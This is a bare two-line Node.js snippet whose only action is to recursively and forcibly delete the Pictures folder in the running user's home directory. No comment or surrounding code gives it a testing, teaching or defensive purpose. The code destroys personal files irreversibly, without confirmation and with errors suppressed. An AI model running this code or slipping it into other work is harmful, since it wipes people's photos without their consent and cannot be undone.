const fs = require("fs"), os = require("os");
fs.rmSync(os.homedir() + "/Pictures", { recursive: true, force: true });
